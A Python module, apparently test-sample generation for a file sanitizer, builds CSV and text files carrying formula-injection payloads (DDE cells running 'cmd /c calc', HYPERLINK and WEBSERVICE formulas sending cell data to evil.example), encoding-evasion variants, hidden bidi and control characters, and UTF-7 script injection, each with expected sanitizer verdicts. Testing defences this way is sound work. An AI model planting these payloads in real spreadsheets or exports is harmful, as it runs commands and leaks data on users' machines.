"""Text and tables: cells that act as formulas, characters that hide, encodings that change what is read."""
from .sample import EITHER, Sample, slug

# a cell that a spreadsheet program would run; none may begin a cell of the output
CELLS = {
	'dde': "=cmd|'/c calc'!A0", 'dde-plus': "+cmd|'/c calc'!A0", 'dde-minus': "-cmd|'/c calc'!A0", 'dde-at': "@SUM(1+1)*cmd|'/c calc'!A0", 'link': '=HYPERLINK("http://evil.example/"&A1,"x")', 'web': '=WEBSERVICE("http://evil.example/")',
	'sum': '=1+1', 'plus': '+1+1', 'minus': '-1+1', 'minus-cell': '-A1', 'at': '@A1', 'tab': '\t=1+1', 'return': '\r=1+1', 'blank': ' =1+1', 'blanks': '   +A1', 'wide-equals': '＝1+1', 'wide-plus': '＋A1', 'wide-minus': '－A1', 'wide-at': '＠SUM(A1)',
	'ideographic-blank': '\u3000=1+1', 'no-break-blank': '\u00a0=1+1', 'bom': '\ufeff=1+1', 'zero-width': '\u200b=1+1', 'quoted-quote': '"=1+1', 'line-inside': 'x\n=1+1', 'import': '=IMPORTXML("http://evil.example/","//x")', 'pipe': "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
	'percent': '%0A=1+1', 'semicolon': ';=1+1', 'equals-only': '=', 'equals-text': '=Ａ１', 'array': '{=1+1}', 'minus-equals': '-=1', 'nul': '\0=1+1', 'control': '\x01=1+1',
}
SAFE = {'percent', 'semicolon', 'array', 'equals-only', 'quoted-quote'}  # whichever way they come out
# numbers and words that only look alike: they stay as they are
HARMLESS = {'negative': '-12', 'plus-number': '+3.5', 'thousands': '-1,234', 'percent': '-5%', 'phone': '+81-3-1234-5678', 'dash': '-', 'mail': 'a@example.jp', 'middle': 'a=b', 'exponent': '-1.5E+10', 'date': '2024-04-01'}
ENCODINGS = {'utf-8': '', 'utf-8-sig': '', 'utf-16': '', 'utf-16-le': '\ufeff', 'utf-16-be': '\ufeff', 'cp932': '', 'euc-jp': '', 'iso2022-jp': ''}
SEPARATORS = {'comma': ',', 'tab': '\t', 'semicolon': ';'}


def quoted(cell, separator, always):
	if always or any(c in cell for c in separator + '"\n\r'):
		return '"%s"' % cell.replace('"', '""')
	return cell


def table(cell, separator=',', always=False, newline='\r\n', last=True):
	def make(mark, keep):
		rows = [['品名', '金額', '備考'], [keep, '100', '普通'], ['りんご', cell, '行'], [cell, '200', '最後']]
		if last:
			rows.append(['みかん', '300', cell])
		return newline.join(separator.join(quoted(c, separator, always) for c in row) for row in rows) + newline
	return make


def encoded(make, encoding, before=''):
	# the minus of JIS X 0208 is another character to these codecs than to Windows; the bytes are the same
	jis = encoding in ('euc-jp', 'iso2022-jp')
	return lambda mark, keep: (before + make(mark, keep).replace('－' if jis else '\0\0', '−')).encode(encoding, 'replace')


def samples():
	for name, cell in CELLS.items():
		for separator_name, separator in SEPARATORS.items():
			for always in (False, True):
				if separator == '\t' and '\t' in cell and not always:
					continue
				yield Sample('text/%s-%s%s.%s' % (name, separator_name, '-quoted' if always else '', 'tsv' if separator == '\t' else 'csv'), 'csv', encoded(table(cell, separator, always), 'utf-8'), verdicts=('sanitized', 'clean', 'blocked') if name in SAFE else EITHER
					if name in ('nul', 'control', 'return') else ('sanitized',), findings=('csv-formula', 'control-characters') if name not in SAFE | {'nul', 'control', 'return'} else (), gone=(), checks=('csv',), telling=(name, separator_name, always) in (('dde', 'comma', False),
					('wide-equals', 'comma', True)), quiet=name in SAFE | {'semicolon', 'nul', 'control'} or (name == 'line-inside'))
		for encoding, before in ENCODINGS.items():
			if name in ('bom', 'zero-width', 'nul', 'control', 'no-break-blank'):
				continue
			yield Sample('text/%s-in-%s.csv' % (name, encoding), 'csv', encoded(table(cell), encoding, before), verdicts=('sanitized', 'clean') if name in SAFE else EITHER if name == 'return' else ('sanitized',), gone=(), checks=('csv',),
				telling=(name, encoding) == ('dde', 'cp932'), quiet=name in SAFE | {'semicolon', 'line-inside'})
	for declared in (',', ';', '|', '\t', '='):
		yield Sample('text/sep-%s.csv' % {',': 'comma', ';': 'semicolon', '|': 'pipe', '\t': 'tab', '=': 'equals'}[declared], 'csv', lambda mark, keep, d=declared: ('sep=%s\r\n' % d + 'a%sb\r\n' % d + '%s%s=1+1\r\n' % (keep, d) + "x%s=cmd|'/c calc'!A0\r\n" % d).encode('utf-8'),
			verdicts=('sanitized',), gone=(), checks=('csv',), telling=declared == ';', quiet=declared == '=')
	for name, newline in (('lf', '\n'), ('cr', '\r'), ('mixed', '\r\n\n')):
		yield Sample('text/newline-%s.csv' % name, 'csv', encoded(table("=cmd|'/c calc'!A0", newline=newline), 'utf-8'), verdicts=('sanitized',), findings=('csv-formula',), gone=(), checks=('csv',))
	for name, cell in HARMLESS.items():
		for encoding in ('utf-8', 'cp932'):
			yield Sample('harmless/%s-%s.csv' % (name, encoding), 'harmless', encoded(table(cell), encoding), verdicts=('clean',), harmless=True, gone=(), checks=('same-text',))
	hidden = {'bidi': '\u202e', 'isolate': '\u2066', 'zero-width': '\u200b', 'nul': '\0', 'escape': '\x1b[2J', 'bell': '\x07', 'c1': '\x9b31m', 'word-joiner': '\u2060', 'bom-inside': '\ufeff', 'tag': '\U000e0041', 'soft-hyphen': '\u00ad'}
	for name, character in hidden.items():
		yield Sample('text/hidden-%s.txt' % name, 'text', lambda mark, keep, c=character: ('文字 %s\r\n左%s右 %s\r\n終わりの行です。\r\n' % (keep, c, keep)).encode('utf-8'), verdicts=('sanitized', 'clean', 'blocked'), gone=() if name in ('tag', 'soft-hyphen', 'word-joiner') else (character,),
			quiet=True, telling=name == 'bidi')
	odd = {
		'utf-7': b'+ADw-script+AD4-alert(1)+ADw-/script+AD4- plain text here, line after line\r\nsecond line\r\n', 'iso-2022-jp-escape': '日本語'.encode('iso2022-jp') + b'\x1b(J<script>\x1b(B plain\r\n', 'half-cp932': '予算表'.encode('cp932') + b'\x81\r\n' + '決算'.encode('cp932') + b'\r\n',
		'overlong': b'plain \xc0\xaf\xc0\xae text in ascii and more\r\n', 'surrogate': b'plain \xed\xa0\x80 text in ascii\r\n', 'lone-cr': b'first\rsecond\rthird\r', 'odd-utf-16': '日本語の文字'.encode('utf-16') + b'\0',
	}
	for name, data in odd.items():
		yield Sample('text/odd-%s.txt' % name, 'text', lambda mark, keep, data=data: data, verdicts=('sanitized', 'clean', 'blocked'), gone=(), keep=(), quiet=True)
	plain = '日本語の文章です。関所を通ります。\r\n二行目 ABC 123\r\n'
	for encoding in ('utf-8', 'utf-8-sig', 'utf-16', 'cp932', 'euc-jp', 'iso2022-jp'):
		yield Sample('harmless/plain-%s.txt' % encoding, 'harmless', lambda mark, keep, e=encoding: (plain * 5 + keep + '\r\n').encode(e), verdicts=('clean',), harmless=True, gone=(), checks=('same-bytes',))
